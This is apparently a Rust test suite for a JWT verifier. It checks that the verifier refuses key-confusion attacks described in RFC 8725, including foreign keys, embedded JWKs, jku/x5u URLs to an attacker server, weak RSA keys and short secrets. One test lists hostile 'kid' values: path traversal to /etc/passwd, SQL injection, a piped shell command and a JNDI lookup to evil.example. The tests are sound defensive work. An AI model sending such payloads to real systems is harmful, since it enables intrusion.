//! Attacks on the choice of the key, and keys that are too weak (RFC 8725 sections 2.2, 2.5, 3.5 and 3.10).
#![allow(clippy::unwrap_used)]

use serde_json::json;

use super::super::support::*;
use super::super::{IssuerConfig, IssuerProblem, TokenRefusal};

#[tokio::test]
async fn foreign_key() {
    let verifier = keys_verifier(&[P256.jwk("k")]);
    accepted(&verifier, &token_of(&P256, "k")).await;
    assert_eq!(refused(&verifier, &token_of(&TestSigner::new_p256(), "k")).await, TokenRefusal::BadSignature);
    let foreign = TestSigner::Shared(b"another secret of enough bytes for HS256".to_vec());
    let forged = token(json!({"alg": "HS256"}), claims(), &foreign);
    assert_eq!(refused(&shared_verifier(), &forged).await, TokenRefusal::BadSignature);
}

#[tokio::test]
async fn kid_with_paths_or_sql() {
    let verifier = keys_verifier(&[P256.jwk("k"), ED25519.jwk("l")]);
    for kid in [
        "../../../../dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "k' OR '1'='1",
        "x' UNION SELECT 'secret'; --",
        "k\0",
        "k/../k",
        "K",
        "",
        "| id",
        "${jndi:ldap://evil.example/}",
    ] {
        assert_eq!(refused(&verifier, &token_of(&P256, kid)).await, TokenRefusal::UnknownKey, "{kid:?}");
        // Nor is a token signed with an empty key accepted, as an empty file would yield.
        assert_eq!(refused(&verifier, &token_of(&TestSigner::Shared(Vec::new()), kid)).await, TokenRefusal::UnknownKey);
    }
    for kid in [json!(1), json!(null), json!(["k"]), json!({"k": "k"})] {
        let header = json!({"alg": "ES256", "kid": kid});
        assert!(matches!(refused(&verifier, &token(header, claims(), &P256)).await, TokenRefusal::Malformed(_)));
    }
}

#[tokio::test]
async fn embedded_jwk() {
    let forger = TestSigner::new_p256();
    let header = json!({"alg": "ES256", "kid": "k", "jwk": forger.jwk("k"), "x5c": ["AAAA"], "x5t": "AAAA"});
    let verifier = keys_verifier(&[P256.jwk("k")]);
    assert_eq!(refused(&verifier, &token(&header, claims(), &forger)).await, TokenRefusal::BadSignature);
    accepted(&verifier, &token(&header, claims(), &P256)).await;
}

#[tokio::test]
async fn jku_and_x5u() {
    use super::super::jwks_server::JwksServer;
    let forger = TestSigner::new_p256();
    let evil = JwksServer::start().await;
    evil.publish(&[forger.jwk("k")]);
    let header = json!({"alg": "ES256", "kid": "k", "jku": evil.url(), "x5u": evil.url()});
    let verifier = keys_verifier(&[P256.jwk("k")]);
    assert_eq!(refused(&verifier, &token(&header, claims(), &forger)).await, TokenRefusal::BadSignature);
    accepted(&verifier, &token(&header, claims(), &P256)).await;
    assert_eq!(evil.fetches(), 0);
}

#[test]
fn rsa_under_2048_bits() {
    for bits in [512, 1024, 2040] {
        let modulus = vec![0xff; bits / 8];
        let jwk = json!({"kty": "RSA", "kid": "k", "n": base64url(&modulus), "e": "AQAB"});
        let error = file_verifier(json!({ "keys": [RSA.jwk("good"), jwk] })).unwrap_err();
        assert!(matches!(error.problem, IssuerProblem::UnusableFile(why) if why.contains("under 2048 bits")));
        let error = file_verifier(pem("RSA PUBLIC KEY", &pkcs1(&modulus))).unwrap_err();
        assert!(matches!(error.problem, IssuerProblem::UnusableFile(_)));
    }
}

#[test]
fn private_keys_are_not_for_a_verifier() {
    let mut jwk = ED25519.jwk("k");
    jwk["d"] = json!("AAAA");
    let texts = [json!({ "keys": [jwk] }).to_string(), pem("PRIVATE KEY", b"x"), pem("EC PRIVATE KEY", b"x")];
    for text in texts {
        let error = file_verifier(text).unwrap_err();
        assert!(matches!(error.problem, IssuerProblem::UnusableFile(why) if why.contains("private key")));
    }
}

#[test]
fn weak_shared_secret() {
    for secret in ["", "secret", "31 bytes are one byte too few.."] {
        let config = IssuerConfig { secret: Some(secret.to_owned()), ..shared_config() };
        assert_eq!(verifier_of(&[(POOL, config)]).unwrap_err().problem, IssuerProblem::ShortSecret);
    }
}

/// An RSA public key with the exponent 65537, in DER (RFC 8017 A.1.1).
fn pkcs1(modulus: &[u8]) -> Vec<u8> {
    let long = |tag: u8, content: &[u8]| {
        let [high, low] = (content.len() as u16).to_be_bytes();
        [&[tag, 0x82, high, low], content].concat()
    };
    let n = long(0x02, &[&[0], modulus].concat());
    long(0x30, &[&n[..], &[0x02, 3, 1, 0, 1]].concat())
}
